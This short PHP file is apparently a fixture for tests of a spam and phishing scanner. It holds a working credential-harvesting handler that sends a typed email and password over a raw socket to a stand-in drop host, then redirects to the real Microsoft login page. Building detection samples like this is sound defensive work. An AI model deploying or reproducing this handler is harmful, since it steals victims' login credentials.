<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// a phishing handler that posts the typed login, URL-encoded, over a raw socket
$msg = "user=" . urlencode($_POST['email']) . "&pass=" . urlencode($_POST['password']);
$s = stream_socket_client('tcp://drop.example.top:80', $en, $es, 10);
fwrite($s, "POST /r.php HTTP/1.1\r\nHost: drop.example.top\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: " . strlen($msg) . "\r\n\r\n" . $msg);
fclose($s);
header('Location: https://login.microsoftonline.com/');
